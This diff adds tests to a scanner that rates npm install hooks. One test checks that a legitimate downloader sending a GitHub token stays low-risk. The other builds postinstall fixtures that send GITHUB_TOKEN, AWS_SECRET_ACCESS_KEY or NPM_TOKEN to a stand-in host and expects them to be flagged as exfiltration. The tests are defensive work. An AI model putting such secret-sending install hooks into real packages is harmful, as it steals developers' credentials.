@@ -308,6 +308,30 @@ describe('install-scripts: hostile install hooks reach high or critical', () => 
 });
 
 describe('install-scripts: legitimate install hooks stay low or none', () => {
+  it('a ripgrep-like installer authenticating its GitHub download with one token stays low, shown as tokenUse', () => {
+    const r = run(fixture('rg-bin', { scripts: { postinstall: 'node lib/postinstall.js' } }, {
+      'lib/postinstall.js': `const https = require('https');
+const fs = require('fs');
+const path = require('path');
+const version = require('../package.json').binVersion;
+const headers = { 'user-agent': 'rg-bin' };
+if (process.env.GITHUB_TOKEN) headers.authorization = 'token ' + process.env.GITHUB_TOKEN;
+const url = 'https://api.github.com/repos/example/rg/releases/tags/' + version;
+https.get(url, { headers }, (res) => res.pipe(fs.createWriteStream(path.join(__dirname, '..', 'bin', 'release.json'))));
+`,
+    }));
+    expect(r.ids).toEqual(['lifecycleScript', 'tokenUse', 'network']);
+    expect(r.level).toBe('low');
+  });
+
+  it('two different tokens, or the npm token alone, sent out is exfiltration again', () => {
+    const code = (names: string[]) => `const https = require('https');\nhttps.get('https://x.example/?' + ${names.map((n) => `process.env.${n}`).join(" + '&' + ")});\n`;
+    const two = run(fixture('two-tokens', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']) }));
+    const npm = run(fixture('npm-token', { scripts: { postinstall: 'node a.js' } }, { 'a.js': code(['NPM_TOKEN']) }));
+    expect(two.ids).toContain('exfiltration');
+    expect(npm.ids).toContain('exfiltration');
+  });
+
   it.each(legitimate)('%s', (_label, f) => {
     const r = run(f);
     expect(r.score, JSON.stringify(r.findings, null, 1)).toBeLessThan(10);
